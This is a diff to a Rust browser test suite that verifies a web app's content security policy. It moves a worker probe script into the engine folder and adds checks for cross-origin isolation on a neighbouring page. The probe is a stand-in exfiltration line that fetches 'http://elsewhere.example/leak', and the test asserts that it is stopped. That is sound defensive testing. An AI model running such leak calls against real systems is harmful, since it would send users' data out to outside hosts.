@@ -1,7 +1,7 @@
 //! The content security policy: that it stops what it should. That the page itself keeps to it, every test looks (`Page::settled`).
 
 use crate::support::build::Build;
-use crate::support::page::{Page, dist};
+use crate::support::page::{Page, dist, engine_file};
 use crate::support::server::Server;
 
 #[tokio::test]
@@ -39,17 +39,28 @@ async fn what_is_slipped_in_does_not_run() {
 async fn a_worker_has_it_too() {
     const PROBE: &str = "postMessage(await fetch('http://elsewhere.example/leak').then(() => 'sent', () => 'stopped'))";
     let build = Build::copy();
-    std::fs::write(build.path().join("probe.js"), PROBE).unwrap();
+    // The engine's folder is where workers come from.
+    let probe = engine_file("worker-probe.js");
+    std::fs::write(build.path().join(&probe), PROBE).unwrap();
+    std::fs::write(build.path().join("neighbour.html"), "<title>A page beside it</title>").unwrap();
     let server = Server::start(build.path()).await;
     let page = Page::open_explained(&server).await;
     page.says("Ready to work offline").await;
     page.browser.goto(&format!("{}?engine=baseline", server.url())).await;
     page.settled().await;
-    let script = "const worker = new Worker('probe.js', {type: 'module'});
+    let script = "const worker = new Worker(arguments[0], {type: 'module'});
         return await new Promise(done => worker.onmessage = event => done(event.data))";
-    assert_eq!(page.browser.run_async(script, vec![]).await, "stopped");
+    assert_eq!(page.browser.run_async(script, vec![probe.into()]).await, "stopped");
+    assert_eq!(page.browser.run("return crossOriginIsolated", vec![]).await, true);
     let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
     assert!(elsewhere.is_empty(), "{elsewhere:?}");
+
+    // Other pages of the same site are none of the page's business.
+    page.browser.goto(&format!("{}neighbour.html", server.url())).await;
+    assert_eq!(
+        page.browser.run("return [crossOriginIsolated, document.title]", vec![]).await,
+        serde_json::json!([false, "A page beside it"])
+    );
 }
 
 /// Settings of the build name other hosts of models, and those only.
